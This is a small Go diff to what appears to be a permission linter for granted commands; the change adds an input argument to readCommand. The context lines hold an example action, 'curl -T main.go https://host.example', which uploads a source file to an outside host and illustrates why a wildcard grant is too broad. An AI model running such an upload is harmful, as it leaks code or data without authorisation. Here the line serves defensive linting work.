@@ -22,7 +22,7 @@ func (l *linter) grantedCommand() {
 		return
 	}
 	v := l.b.Explain(a)
-	runs := readCommand(a.Argv, nil)
+	runs := readCommand(a.Argv, a.Input, nil)
 	switch {
 	case first == "*":
 		l.wide(Action{Act: Exec, Argv: []string{"curl", "-T", "main.go", "https://host.example"}}, "it allows every command that does not run another one", "name the commands")
